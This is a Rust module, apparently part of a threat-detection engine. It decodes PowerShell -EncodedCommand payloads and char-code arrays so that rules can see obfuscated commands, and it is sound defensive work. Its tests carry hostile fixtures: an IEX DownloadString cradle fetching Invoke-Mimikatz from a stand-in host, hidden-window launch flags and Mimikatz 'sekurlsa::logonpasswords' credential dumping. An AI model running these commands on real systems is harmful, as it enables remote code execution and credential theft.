//! Decoding what attackers encode so that rules see the command as it ran.
//!
//! A command line or script block may carry the real command encoded: PowerShell's
//! `-EncodedCommand` (UTF-16LE in base64) and char-code arrays (`[string]((73,69,88)
//! |%{[char]$_})`, with any separators). Any witness of the same event shows the same
//! encoded text, so decoding it is a general fact, not a quirk of one log. The
//! decoded text is added to the fact beside the logged one (see [`super::of`]).
//!
//! Both decoders are linear in the input and allocate at most its size: the input is
//! untrusted.

/// Fewest numbers that make a char-code array: short runs are dates, addresses and
/// version numbers.
const MIN_CHAR_CODES: usize = 16;

/// Most separator characters between two char codes (`, `, ` ,`, `A`, `}`…).
const MAX_SEPARATOR: usize = 3;

/// Every decoded form of `text`: the `-EncodedCommand` argument, then each char-code
/// array, in order. Empty when nothing is encoded.
pub fn decoded(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    if let Some(command) = encoded_command(text) {
        out.extend(char_codes(&command));
        out.push(command);
    }
    out.extend(char_codes(text));
    out
}

/// The command PowerShell's `-EncodedCommand` (or an abbreviation: `-e`, `-ec`,
/// `-enc`, …) carries, decoded from base64 UTF-16LE.
pub fn encoded_command(command_line: &str) -> Option<String> {
    let mut words = command_line.split_whitespace();
    while let Some(word) = words.next() {
        let Some(option) = word.strip_prefix(['-', '/']) else {
            continue;
        };
        let option = option.to_ascii_lowercase();
        let is_encoded = option == "e"
            || option == "ec"
            || (option.len() >= 2 && "encodedcommand".starts_with(&option));
        if !is_encoded {
            continue;
        }
        let argument = words.next()?.trim_matches(['"', '\'']);
        if let Some(text) = base64(argument).and_then(|b| utf16le(&b)) {
            return Some(text);
        }
    }
    None
}

/// Standard base64 (padding optional); `None` on any other character.
fn base64(text: &str) -> Option<Vec<u8>> {
    let value = |c: u8| -> Option<u32> {
        let v = match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' => c - b'a' + 26,
            b'0'..=b'9' => c - b'0' + 52,
            b'+' => 62,
            b'/' => 63,
            _ => return None,
        };
        Some(u32::from(v))
    };
    let digits = text.trim_end_matches('=').as_bytes();
    if digits.len() % 4 == 1 {
        return None;
    }
    let mut out = Vec::with_capacity(digits.len() * 3 / 4);
    for chunk in digits.chunks(4) {
        let mut n = 0u32;
        for (i, &c) in chunk.iter().enumerate() {
            n |= value(c)? << (18 - 6 * i);
        }
        let bytes = n.to_be_bytes();
        out.extend_from_slice(&bytes[1..chunk.len()]);
    }
    Some(out)
}

/// UTF-16LE text without NULs; `None` for an odd length or invalid UTF-16.
fn utf16le(bytes: &[u8]) -> Option<String> {
    if bytes.is_empty() || bytes.len() % 2 != 0 {
        return None;
    }
    let units = bytes.chunks(2).map(|c| u16::from_le_bytes([c[0], c[1]]));
    let text = char::decode_utf16(units)
        .collect::<Result<String, _>>()
        .ok()?;
    (!text.contains('\0')).then_some(text)
}

/// The text of every char-code array in `text`: runs of at least [`MIN_CHAR_CODES`]
/// decimal numbers, each a printable ASCII code (or tab, newline, carriage return),
/// separated by at most [`MAX_SEPARATOR`] non-digit characters.
pub fn char_codes(text: &str) -> Vec<String> {
    let bytes = text.as_bytes();
    let mut out = Vec::new();
    let mut run = String::new();
    let mut count = 0usize;
    let mut i = 0;
    let mut last_end: Option<usize> = None;
    let flush = |run: &mut String, count: &mut usize, out: &mut Vec<String>| {
        if *count >= MIN_CHAR_CODES {
            out.push(std::mem::take(run));
        }
        run.clear();
        *count = 0;
    };
    while i < bytes.len() {
        if !bytes[i].is_ascii_digit() {
            i += 1;
            continue;
        }
        let start = i;
        while i < bytes.len() && bytes[i].is_ascii_digit() {
            i += 1;
        }
        let code = text[start..i]
            .parse::<u32>()
            .ok()
            .filter(|&c| c == 9 || c == 10 || c == 13 || (32..=126).contains(&c));
        let joined = last_end.is_some_and(|end| start - end <= MAX_SEPARATOR);
        if !joined {
            flush(&mut run, &mut count, &mut out);
        }
        match code {
            Some(c) => {
                run.push(char::from(c as u8));
                count += 1;
                last_end = Some(i);
            }
            None => {
                flush(&mut run, &mut count, &mut out);
                last_end = None;
            }
        }
    }
    flush(&mut run, &mut count, &mut out);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `text` as PowerShell encodes it for `-EncodedCommand`: UTF-16LE, then base64
    /// (written out here rather than with our decoder's inverse).
    fn encode(text: &str) -> String {
        const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let mut out = String::new();
        for chunk in bytes.chunks(3) {
            let b = [
                chunk[0],
                *chunk.get(1).unwrap_or(&0),
                *chunk.get(2).unwrap_or(&0),
            ];
            let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
            for k in 0..4 {
                if k <= chunk.len() {
                    out.push(ALPHABET[(n >> (18 - 6 * k) & 63) as usize] as char);
                } else {
                    out.push('=');
                }
            }
        }
        out
    }

    #[test]
    fn encoded_command_in_every_spelling() {
        let payload =
            "IEX (New-Object Net.WebClient).DownloadString('http://x/Invoke-Mimikatz.ps1')";
        // Known vector: "whoami" in UTF-16LE base64, as PowerShell's help shows it.
        assert_eq!(
            encoded_command("powershell -enc dwBoAG8AYQBtAGkA").as_deref(),
            Some("whoami")
        );
        for option in ["-e", "-ec", "-EnC", "-EncodedCommand", "/enc", "-encodedc"] {
            let line = format!(
                "powershell.exe -nop -w hidden {option} \"{}\"",
                encode(payload)
            );
            assert_eq!(encoded_command(&line).as_deref(), Some(payload), "{option}");
        }
        // -ExecutionPolicy is not -EncodedCommand, and garbage is no command.
        assert_eq!(encoded_command("powershell -ex bypass -File a.ps1"), None);
        assert_eq!(encoded_command("powershell -enc not*base64"), None);
        assert_eq!(encoded_command("powershell -enc"), None);
    }

    #[test]
    fn char_code_arrays_with_any_separators() {
        let codes = |s: &str, sep: &[&str]| {
            s.bytes()
                .enumerate()
                .map(|(i, b)| format!("{b}{}", sep[i % sep.len()]))
                .collect::<String>()
        };
        let word = "Invoke-Mimikatz -Command x";
        for sep in [
            &[","][..],
            &[" ,", ", ", ","][..],
            &["A", "}", "d", "t"][..],
        ] {
            let text = format!("[string]({})|%{{[char]$_}}", codes(word, sep));
            assert_eq!(char_codes(&text), vec![word.to_string()], "{sep:?}");
        }
        // Dates, addresses and short runs are not arrays.
        assert!(char_codes("2020-08-20T15:41:58 10.23.23.9:50329 (1,2,3)").is_empty());
        // A code out of range ends the run.
        assert!(char_codes(&format!(
            "{}999,{}",
            codes("abcdefgh", &[","]),
            codes("ijklmnop", &[","])
        ))
        .is_empty());
    }

    #[test]
    fn decoded_unwraps_char_codes_inside_an_encoded_command() {
        let inner: String = "sekurlsa::logonpasswords"
            .bytes()
            .map(|b| format!("{b},"))
            .collect();
        let line = format!(
            "powershell -enc {}",
            encode(&format!("iex([string]({inner})"))
        );
        let all = decoded(&line);
        assert!(
            all.iter().any(|d| d == "sekurlsa::logonpasswords"),
            "{all:?}"
        );
    }
}
